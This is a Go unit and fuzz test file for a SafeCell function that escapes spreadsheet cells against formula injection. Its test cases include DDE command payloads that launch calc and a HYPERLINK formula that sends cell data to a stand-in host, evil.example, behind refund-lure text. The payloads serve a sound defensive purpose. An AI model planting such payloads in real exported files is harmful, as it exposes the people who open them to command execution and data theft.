package export

import (
	"strings"
	"testing"
	"unicode"
	"unicode/utf8"
)

func TestSafeCell(t *testing.T) {
	cases := []struct {
		name, in string
		escaped  bool
	}{
		{"a formula", "=1+1", true},
		{"a DDE payload", "=cmd|' /C calc'!A0", true},
		{"a DDE payload starting with plus", "+cmd|' /C calc'!A0", true},
		{"a DDE payload starting with minus", "-2+3+cmd|' /C calc'!A0", true},
		{"an at-sign function", "@SUM(1+1)*cmd|' /C calc'!A0", true},
		{"a hyperlink formula", `=HYPERLINK("http://evil.example/?"&A1,"点此领取退款")`, true},
		{"a full-width equals sign", "＝1+1", true},
		{"a full-width plus sign", "＋cmd|' /C calc'!A0", true},
		{"a full-width minus sign", "－1", true},
		{"a full-width at sign", "＠SUM(A1)", true},
		{"a small equals sign", "﹦1+1", true},
		{"leading spaces", "   =1+1", true},
		{"a leading ideographic space", "\u3000=1+1", true},
		{"a leading no-break space", "\u00a0=1+1", true},
		{"a leading newline", "\n=1+1", true},
		{"a leading zero-width space", "\u200b=1+1", true},
		{"a leading byte order mark", "\ufeff=1+1", true},
		{"a leading right-to-left override", "\u202e=1+1", true},
		{"a leading NUL", "\x00=1+1", true},
		{"a leading invalid byte", "\xff=1+1", true},
		{"a leading tab", "\tabc", true},
		{"a leading carriage return", "\rabc", true},
		{"a tab after spaces", "  \tabc", true},
		{"a negative number (amounts are written as numbers, not through SafeCell)", "-12.50", true},
		{"a phone number with a country code", "+86 138 0013 8000", true},
		{"plain Chinese text", "张三", false},
		{"an item name", "2026学年学费", false},
		{"a number", "5800.00", false},
		{"an equals sign inside", "a=b", false},
		{"a minus sign inside", "计科-1班", false},
		{"a tab inside", "a\tb", false},
		{"an apostrophe already", "'=1+1", false},
		{"a math minus sign is not a trigger", "−1", false},
		{"empty", "", false},
		{"spaces only", "   ", false},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			got := SafeCell(c.in)
			want := c.in
			if c.escaped {
				want = "'" + c.in
			}
			if got != want {
				t.Fatalf("SafeCell(%q) = %q, want %q", c.in, got, want)
			}
		})
	}
}

func FuzzSafeCell(f *testing.F) {
	for _, s := range []string{"=1+1", "＝1", " \t-1", "张三", "", "\u202e@x", "\xff+"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		got := SafeCell(s)
		if got != s && got != "'"+s {
			t.Fatalf("SafeCell(%q) = %q: neither unchanged nor quoted", s, got)
		}
		if got == s {
			// Unchanged: the first significant character starts no formula.
			for _, r := range s {
				if r == '\t' || r == '\r' {
					t.Fatalf("%q left unescaped with a leading tab or CR", s)
				}
				if r == utf8.RuneError || unicode.IsSpace(r) || unicode.IsControl(r) || unicode.Is(unicode.Cf, r) {
					continue
				}
				if strings.ContainsRune("=+-@＝＋－＠﹦﹢﹣﹫", r) {
					t.Fatalf("%q left unescaped", s)
				}
				break
			}
		}
		if SafeCell(got) != got {
			t.Fatalf("SafeCell is not idempotent on %q", got)
		}
	})
}
